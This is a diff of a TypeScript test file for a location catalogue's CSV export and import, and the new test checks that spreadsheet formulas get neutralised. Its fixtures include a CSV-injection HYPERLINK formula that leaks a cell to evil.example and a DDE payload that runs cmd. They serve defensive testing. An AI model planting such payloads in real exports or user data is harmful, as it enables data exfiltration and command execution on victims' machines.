@@ -6,9 +6,11 @@ import { asc, eq } from "drizzle-orm";
 import type { FeatureCollection, Point } from "geojson";
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
 import { createTestDatabase } from "../../tests/setup/db";
+import { catalogueExport } from "../catalogue/pages";
+import { connectDatabase, disconnectDatabase } from "../db";
 import type { DatabaseHandle } from "../db/client";
 import { locations } from "../db/schema";
-import { parseCsv } from "./csv";
+import { parseCsv } from "../csv";
 import { exportCsv, exportGeoJson } from "./export";
 import { importFile } from "./import";
 import { RAW_FIELDS } from "./record";
@@ -18,11 +20,12 @@ const fixture = (name: string) => path.resolve("tests/fixtures/import", name);
 let handle: DatabaseHandle;
 let tmp: string;
 beforeAll(async () => {
-  handle = await createTestDatabase();
+  // The admin route reads the process-wide database (getDatabase).
+  handle = await connectDatabase(await createTestDatabase());
   tmp = fs.mkdtempSync(path.join(os.tmpdir(), "export-db-"));
 });
 afterAll(async () => {
-  await handle?.close();
+  await disconnectDatabase();
   fs.rmSync(tmp, { recursive: true, force: true });
 });
 beforeEach(async () => {
@@ -85,6 +88,58 @@ describe(`export (${process.env.TEST_DATABASE_URL ? "PostgreSQL" : "PGlite"})`, 
     const again = await importFile(handle.db, file);
     expect(again).toMatchObject({ accepted: 7, updated: 7 });
     expect(await allRows()).toEqual(before.map((row) => ({ ...row, version: row.version + 1 })));
+  });
+
+  it("neutralises spreadsheet formulas in the admin export, and the import takes them back as typed", async () => {
+    await importFixtures();
+    const [first, second] = await allRows();
+    const hyperlink = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
+    const dde = "@SUM(1+1)*cmd|' /C calc'!A0";
+    const owned = {
+      parkingOptions: hyperlink,
+      paymentOptions: dde,
+      description: "-2+3 spaces left",
+      phoneNumber: "+1 555-0100",
+      website: "https://example.com/=a",
+    };
+    await handle.db
+      .update(locations)
+      .set({ ...owned, accessibilityOptions: "\t=1+1" })
+      .where(eq(locations.placeId, first!.placeId));
+    await handle.db
+      .update(locations)
+      .set({ parkingOptions: "'=already marked", paymentOptions: "+Cash" })
+      .where(eq(locations.placeId, second!.placeId));
+    const before = await allRows();
+
+    const response = catalogueExport(new Request("http://localhost/admin/locations/export?format=csv"));
+    const text = await response.text();
+    const [header, ...rows] = parseCsv(text);
+    const column = (name: string) => header!.indexOf(name);
+    const row = rows.find((r) => r[0] === first!.placeId)!;
+    expect(row[column("parking_options")]).toBe(`'${hyperlink}`);
+    expect(row[column("payment_options")]).toBe(`'${dde}`);
+    expect(row[column("accessibility_options")]).toBe("'\t=1+1");
+    expect(row[column("description")]).toBe("'-2+3 spaces left");
+    expect(row[column("phone_number")]).toBe("'+1 555-0100");
+    // Numbers stay numbers: a longitude is not a formula and must not become text.
+    expect(row[column("longitude")]).toBe(String(first!.longitude));
+    expect(Number(row[column("longitude")])).toBeLessThan(0);
+    for (const record of rows) for (const cell of record) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
+
+    // Export -> import gives back what the owners typed, apostrophes and all.
+    const file = path.join(tmp, "formulas.csv");
+    fs.writeFileSync(file, text);
+    await handle.db.delete(locations);
+    const report = await importFile(handle.db, file);
+    expect(report).toMatchObject({ accepted: 7, rejected: [] });
+    // The importer trims text, as it always has: the tab goes, the formula stays text.
+    const trimmed = (rows: typeof before) =>
+      rows.map((r) => (r.placeId === first!.placeId ? { ...r, accessibilityOptions: "=1+1" } : r));
+    expect(await allRows()).toEqual(trimmed(before));
+    const [restored, kept] = await allRows();
+    expect(restored).toMatchObject(owned);
+    expect(kept).toMatchObject({ parkingOptions: "'=already marked", paymentOptions: "+Cash" });
   });
 
   it("writes GeoJSON points for the located rows", async () => {
